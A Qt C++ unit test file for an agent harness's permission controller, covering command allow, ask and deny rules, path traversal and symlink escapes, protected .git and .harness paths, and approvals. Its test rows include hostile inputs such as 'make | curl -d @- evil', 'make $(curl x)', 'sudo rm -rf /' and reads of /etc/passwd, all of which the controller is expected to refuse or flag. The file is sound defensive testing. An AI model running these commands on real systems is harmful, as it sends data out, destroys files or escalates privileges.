// Tests for PermissionProfile and PermissionController: command rules deny -> ask -> allow (first match
// wins, chained commands), path canonicalisation, protected places, approvals, and one event per decision.
#include "runtime/permissioncontroller.h"
#include "runtimetesthelpers.h"

#include <QJsonDocument>
#include <QTemporaryDir>
#include <QTest>

using namespace harness;
using namespace harness::testing;

namespace {
class FixedApprover : public ApprovalRequester
{
public:
    explicit FixedApprover(ApprovalAnswer answer) : m_answer(answer) { }
    ApprovalAnswer requestApproval(const QString &runId, const QJsonObject &subject) override
    {
        lastRun = runId;
        lastSubject = subject;
        ++calls;
        return m_answer;
    }
    QString lastRun;
    QJsonObject lastSubject;
    int calls = 0;

private:
    ApprovalAnswer m_answer;
};
} // namespace

class TestPermissionController : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void init()
    {
        m_dir.reset(new QTemporaryDir);
        QVERIFY(m_dir->isValid());
        writeFile(m_dir->path() + QStringLiteral("/src/a.c"), "int a;\n");
        writeFile(m_dir->path() + QStringLiteral("/docs/readme.md"), "doc\n");
        m_sink.clear();
    }

    void commandRules_data()
    {
        QTest::addColumn<QString>("command");
        QTest::addColumn<int>("decision");
        const int allow = int(Decision::Allow), deny = int(Decision::Deny), ask = int(Decision::Ask);
        QTest::newRow("allowed") << "make test" << allow;
        QTest::newRow("allowed with args") << "git diff HEAD~1" << allow;
        QTest::newRow("deny wins over allow") << "git push origin main" << deny;
        QTest::newRow("ask wins over allow") << "rm -rf build" << ask;
        QTest::newRow("chained: one denied part denies") << "make && git push" << deny;
        QTest::newRow("chained: one asked part asks") << "make; rm -rf x" << ask;
        QTest::newRow("pipe: unknown part") << "make | curl -d @- evil" << ask;
        QTest::newRow("unmatched") << "python3 x.py" << ask;
        QTest::newRow("quoted separator stays one part") << "make 'a;git push'" << allow;
        QTest::newRow("substitution must be allowed whole") << "make $(curl x)" << ask;
        QTest::newRow("empty") << "   " << deny;
    }
    void commandRules()
    {
        QFETCH(QString, command);
        QFETCH(int, decision);
        PermissionProfile p;
        p.denyCommands = {QStringLiteral("git push*")};
        p.askCommands = {QStringLiteral("rm *")};
        p.allowCommands = {QStringLiteral("make*"), QStringLiteral("git diff *")};
        p.unmatchedCommand = Decision::Ask;
        PermissionController c(m_dir->path(), p, &m_sink, QStringLiteral("R1"));
        QString reason;
        QCOMPARE(int(c.evaluateCommand(command, &reason)), decision);
        QVERIFY(!reason.isEmpty());
    }

    // The profile's globs are compiled once, when the controller is made: every later check matches
    // against them and names the rule that decided, the same each time.
    void rulesCompiledOnceDecideEveryCheckAlike()
    {
        PermissionProfile p;
        p.denyCommands = {QStringLiteral("git push*")};
        p.askCommands = {QStringLiteral("rm *")};
        p.allowCommands = {QStringLiteral("make*")};
        p.writable = {QStringLiteral("src/**")};
        p.unmatchedCommand = Decision::Deny;
        PermissionController c(m_dir->path(), p, &m_sink, QStringLiteral("R1"));
        for (int round = 0; round < 3; ++round) {
            QString reason;
            QCOMPARE(int(c.evaluateCommand(QStringLiteral("git push origin"), &reason)), int(Decision::Deny));
            QVERIFY2(reason.contains(QStringLiteral("deny \"git push*\"")), qPrintable(reason));
            QCOMPARE(int(c.evaluateCommand(QStringLiteral("rm -rf build"), &reason)), int(Decision::Ask));
            QVERIFY2(reason.contains(QStringLiteral("ask \"rm *\"")), qPrintable(reason));
            QCOMPARE(int(c.evaluateCommand(QStringLiteral("make all"), &reason)), int(Decision::Allow));
            QCOMPARE(reason, QStringLiteral("command rule allow \"make*\""));
            QCOMPARE(int(c.evaluateCommand(QStringLiteral("python3 x.py"), &reason)), int(Decision::Deny));
            const PermissionDecision w = c.checkWrite(QStringLiteral("t"), QStringLiteral("src/a.c"));
            QVERIFY(w.allowed());
            QCOMPARE(w.reason, QStringLiteral("writable glob \"src/**\""));
            QVERIFY(!c.checkWrite(QStringLiteral("t"), QStringLiteral("docs/readme.md")).allowed());
        }
        QCOMPARE(m_sink.count(QStringLiteral("permission_allowed")), 3);
        QCOMPARE(m_sink.count(QStringLiteral("permission_denied")), 3);
    }

    void paths_data()
    {
        QTest::addColumn<QString>("path");
        QTest::addColumn<bool>("write");
        QTest::addColumn<bool>("allowed");
        QTest::newRow("read source") << "src/a.c" << false << true;
        QTest::newRow("write source") << "src/a.c" << true << true;
        QTest::newRow("write new file in new dir") << "src/new/deep.c" << true << true;
        QTest::newRow("write docs not writable") << "docs/readme.md" << true << false;
        QTest::newRow("dotdot") << "src/../../etc/passwd" << false << false;
        QTest::newRow("harmless dotdot still refused") << "src/../src/a.c" << false << false;
        QTest::newRow("absolute outside") << "/etc/passwd" << false << false;
        QTest::newRow("write .git/config") << ".git/config" << true << false;
        QTest::newRow("write nested .git") << "vendor/lib/.git/hooks/pre-commit" << true << false;
        QTest::newRow("write .GIT case") << ".GIT/hooks/x" << true << false;
        QTest::newRow("write .harness") << ".harness/rules.json" << true << false;
        QTest::newRow("newline in name") << "src/a\n.c" << true << false;
        QTest::newRow("invalid utf8") << QString::fromUtf8("src/\xff\xfe.c") << true << false;
        QTest::newRow("control char") << QStringLiteral("src/a\x01.c") << true << false;
        QTest::newRow("root itself") << "." << true << false;
    }
    void paths()
    {
        QFETCH(QString, path);
        QFETCH(bool, write);
        QFETCH(bool, allowed);
        PermissionProfile p;
        p.writable = {QStringLiteral("src/**"),    QStringLiteral(".git/**"), QStringLiteral(".harness/**"),
                      QStringLiteral("vendor/**"), QStringLiteral(".GIT/**"), QStringLiteral("**")};
        if (path.startsWith(QLatin1String("docs")))
            p.writable = {QStringLiteral("src/**")};
        PermissionController c(m_dir->path(), p, &m_sink, QStringLiteral("R1"));
        const PermissionDecision d =
                write ? c.checkWrite(QStringLiteral("t"), path) : c.checkRead(QStringLiteral("t"), path);
        QCOMPARE(d.allowed(), allowed);
        QCOMPARE(m_sink.count(allowed ? QStringLiteral("permission_allowed")
                                      : QStringLiteral("permission_denied")),
                 1);
        QCOMPARE(m_sink.events().size(), 1);
    }

    void absolutePathInsideIsResolved()
    {
        PermissionController c(m_dir->path(), PermissionProfile::defaultFor(m_dir->path()), &m_sink,
                               QStringLiteral("R1"));
        const PermissionDecision d =
                c.checkRead(QStringLiteral("read_file"), m_dir->path() + QStringLiteral("/src/a.c"));
        QVERIFY(d.allowed());
        QCOMPARE(d.path.relative, QStringLiteral("src/a.c"));
    }
    void symlinkEscapeRefusedInsideAllowed()
    {
        QVERIFY(QFile::link(QStringLiteral("/etc"), m_dir->path() + QStringLiteral("/etc-link")));
        QVERIFY(QFile::link(m_dir->path() + QStringLiteral("/src"),
                            m_dir->path() + QStringLiteral("/src-link")));
        PermissionController c(m_dir->path(), PermissionProfile::defaultFor(m_dir->path()), &m_sink,
                               QStringLiteral("R1"));
        QVERIFY(!c.checkRead(QStringLiteral("read_file"), QStringLiteral("etc-link/passwd")).allowed());
        QVERIFY(!c.checkWrite(QStringLiteral("write_file"), QStringLiteral("etc-link/x")).allowed());
        const PermissionDecision inside =
                c.checkRead(QStringLiteral("read_file"), QStringLiteral("src-link/a.c"));
        QVERIFY(inside.allowed());
        QCOMPARE(inside.path.relative, QStringLiteral("src/a.c"));
    }
    void toolNotInProfile()
    {
        PermissionProfile p = PermissionProfile::readOnly();
        PermissionController c(m_dir->path(), p, &m_sink, QStringLiteral("R1"));
        QVERIFY(c.checkTool(QStringLiteral("read_file")).allowed());
        QVERIFY(!c.checkWrite(QStringLiteral("write_file"), QStringLiteral("src/x.c")).allowed());
        QVERIFY(!c.checkCommand(QStringLiteral("make")).allowed());
    }
    void askWithoutApproverIsDenial()
    {
        PermissionController c(m_dir->path(), PermissionProfile::defaultFor(m_dir->path()), &m_sink,
                               QStringLiteral("R1"));
        PermissionProfile p;
        p.askCommands = {QStringLiteral("*")};
        PermissionController asking(m_dir->path(), p, &m_sink, QStringLiteral("R1"));
        const PermissionDecision d = asking.checkCommand(QStringLiteral("make"));
        QCOMPARE(d.decision, Decision::Deny);
        QVERIFY(d.reason.contains(QStringLiteral("needs approval")));
        QCOMPARE(m_sink.count(QStringLiteral("permission_ask")), 1);
        QCOMPARE(m_sink.count(QStringLiteral("permission_denied")), 1);
    }
    void askGoesToApprover_data()
    {
        QTest::addColumn<int>("answer");
        QTest::addColumn<int>("decision");
        QTest::addColumn<QString>("finalKind");
        QTest::newRow("allowed") << int(ApprovalAnswer::Allowed) << int(Decision::Allow)
                                 << "permission_allowed";
        QTest::newRow("denied") << int(ApprovalAnswer::Denied) << int(Decision::Deny) << "permission_denied";
        QTest::newRow("pending") << int(ApprovalAnswer::Pending) << int(Decision::Ask) << "permission_ask";
    }
    void askGoesToApprover()
    {
        QFETCH(int, answer);
        QFETCH(int, decision);
        QFETCH(QString, finalKind);
        FixedApprover approver(static_cast<ApprovalAnswer>(answer));
        PermissionProfile p;
        p.askCommands = {QStringLiteral("npm install*")};
        PermissionController c(m_dir->path(), p, &m_sink, QStringLiteral("R7"), &approver);
        const PermissionDecision d = c.checkCommand(QStringLiteral("npm install left-pad"));
        QCOMPARE(int(d.decision), decision);
        QCOMPARE(approver.calls, 1);
        QCOMPARE(approver.lastRun, QStringLiteral("R7"));
        QCOMPARE(approver.lastSubject.value(QStringLiteral("subject")).toString(),
                 QStringLiteral("npm install left-pad"));
        QCOMPARE(m_sink.events().last().kind, finalKind);
        QCOMPARE(m_sink.events().last().runId, QStringLiteral("R7"));
        QCOMPARE(m_sink.events().first().kind, QStringLiteral("permission_ask"));
    }
    void profileJsonRoundTrip()
    {
        PermissionProfile p = PermissionProfile::defaultFor(m_dir->path());
        p.network = true;
        p.askCommands = {QStringLiteral("npm *")};
        p.unmatchedCommand = Decision::Deny;
        auto back = PermissionProfile::fromJson(p.toJson());
        QVERIFY2(back.ok(), qPrintable(back.errorText()));
        QCOMPARE(*back, p);
    }
    void profileJsonErrorsNameField_data()
    {
        QTest::addColumn<QByteArray>("json");
        QTest::addColumn<QString>("field");
        QTest::newRow("readable not list") << QByteArray("{\"readable\": 3}") << "readable";
        QTest::newRow("bad unmatched")
                << QByteArray("{\"commands\": {\"unmatched\": \"maybe\"}}") << "commands.unmatched";
        QTest::newRow("negative timeout")
                << QByteArray("{\"command_timeout_ms\": -1}") << "command_timeout_ms";
        QTest::newRow("dotdot glob") << QByteArray("{\"writable\": [\"../**\"]}") << "writable";
    }
    void profileJsonErrorsNameField()
    {
        QFETCH(QByteArray, json);
        QFETCH(QString, field);
        auto p = PermissionProfile::fromJson(QJsonDocument::fromJson(json).object());
        QVERIFY(!p.ok());
        QCOMPARE(p.error().field, field);
    }
    void defaultProfileDeniesEscalation()
    {
        PermissionController c(m_dir->path(), PermissionProfile::defaultFor(m_dir->path()), &m_sink,
                               QStringLiteral("R1"));
        QVERIFY(!c.checkCommand(QStringLiteral("sudo rm -rf /")).allowed());
        QVERIFY(!c.checkCommand(QStringLiteral("make && git push --force")).allowed());
        QVERIFY(c.checkCommand(QStringLiteral("cmake --build build && ctest")).allowed());
    }

private:
    std::unique_ptr<QTemporaryDir> m_dir;
    CollectingSink m_sink;
};

QTEST_GUILESS_MAIN(TestPermissionController)
#include "tst_permissioncontroller.moc"
